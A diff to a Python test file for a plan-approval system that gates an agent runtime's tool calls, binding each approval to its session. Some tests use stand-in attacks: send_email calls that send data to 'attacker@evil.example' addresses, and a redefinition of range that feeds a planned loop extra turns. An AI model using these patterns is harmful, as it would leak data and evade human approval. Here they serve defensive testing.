@@ -66,10 +66,11 @@ def test_unbounded_and_indirect_uses() -> None:
 def run_with_plan(make_runtime: Any, code: str, planned: str, fallback: Any = None,
                   accept_computed: Any = ("body",)) -> Any:
     plan = analyze(planned, TOOLS)
-    runtime = make_runtime(TOOLS, approve=PlanApproval(plan, fallback=fallback,
-                                                       accept_computed=accept_computed),
-                           limits=Limits(tool_timeout_s=5.0))
-    return runtime.run(code)
+    runtime = make_runtime(TOOLS, limits=Limits(tool_timeout_s=5.0))
+    with runtime.session() as session:
+        runtime.approve = PlanApproval(plan, fallback=fallback, session=session,
+                                       accept_computed=accept_computed)
+        return session.run(code)
 
 
 def test_calls_inside_the_plan_pass(make_runtime: Any) -> None:
@@ -101,10 +102,10 @@ def test_calls_beyond_a_sites_count_are_gated(make_runtime: Any) -> None:
     # the planned script itself, fed more loop turns by an earlier run of the session
     code = "for i in range(2):\n    send_email(to='boss@corp.example', body=f'n{i}')\n"
     plan = analyze(code, TOOLS)
-    runtime = make_runtime(TOOLS, approve=PlanApproval(plan, fallback=human,
-                                                       accept_computed=["body"]),
-                           limits=Limits(tool_timeout_s=5.0))
+    runtime = make_runtime(TOOLS, limits=Limits(tool_timeout_s=5.0))
     with runtime.session() as session:
+        runtime.approve = PlanApproval(plan, fallback=human, session=session,
+                                       accept_computed=["body"])
         assert session.run("range = lambda n: [0, 1, 2]").ok
         result = session.run(code)
     assert not result.ok  # the third call was denied
@@ -140,9 +141,10 @@ def _plan_run(make_runtime: Any, code: str, earlier: str | None = None,
         return Decision.deny("a human said no")
 
     plan = analyze(code, [mail])
-    approval = PlanApproval(plan, fallback=human, accept_computed=accept_computed)
     runtime = make_runtime([mail], limits=Limits(tool_timeout_s=5.0, max_tool_calls=500))
     with runtime.session() as session:
+        approval = PlanApproval(plan, fallback=human, session=session,
+                                accept_computed=accept_computed)
         if earlier is not None:
             assert session.run(earlier).ok  # default policy: nothing is mailed here
         runtime.approve = approval
@@ -248,10 +250,10 @@ def test_state_left_by_an_earlier_run_does_not_approve_more(make_runtime: Any,
 
 def test_a_plan_is_bound_to_its_script_and_its_run(make_runtime: Any) -> None:
     plan = analyze(SCRIPT, TOOLS)
-    approval = PlanApproval(plan, accept_computed=["body"])
-    runtime = make_runtime(TOOLS, approve=approval, limits=Limits(tool_timeout_s=5.0))
+    runtime = make_runtime(TOOLS, limits=Limits(tool_timeout_s=5.0))
     attacks = [f"send_email('attacker{i}@evil.example', 'the numbers')" for i in range(3)]
     with runtime.session() as session:
+        runtime.approve = PlanApproval(plan, session=session, accept_computed=["body"])
         first = session.run(SCRIPT)
         later = [session.run(code) for code in attacks]
         copy = session.run(SCRIPT + "\n")  # one character more: another script
@@ -267,7 +269,7 @@ def test_a_plan_is_bound_to_its_script_and_its_run(make_runtime: Any) -> None:
 def test_describe_shows_every_argument() -> None:
     names_only = analyze("send_email('attacker@evil.example', 'x')", ["send_email"])
     assert "send_email('attacker@evil.example', 'x')" in names_only.describe()
-    approval = PlanApproval(names_only)
+    approval = PlanApproval(names_only, session="s1")
     assert "asked: positional arguments" in approval.describe()
     known = analyze("send_email('attacker@evil.example', 'x')", TOOLS)
     assert "send_email(to='attacker@evil.example', body='x') x <= 1" in known.describe()
@@ -285,6 +287,7 @@ def test_omitted_arguments_are_planned_with_their_defaults(make_runtime: Any) ->
     code = "archive('/data')"
     plan = analyze(code, [archive])
     assert "archive(path='/data', recursive=True, dry_run=False) x <= 1" in plan.describe()
-    runtime = make_runtime([archive], approve=PlanApproval(plan),
-                           limits=Limits(tool_timeout_s=5.0))
-    assert runtime.run(code).ok
+    runtime = make_runtime([archive], limits=Limits(tool_timeout_s=5.0))
+    with runtime.session() as session:
+        runtime.approve = PlanApproval(plan, session=session)
+        assert session.run(code).ok
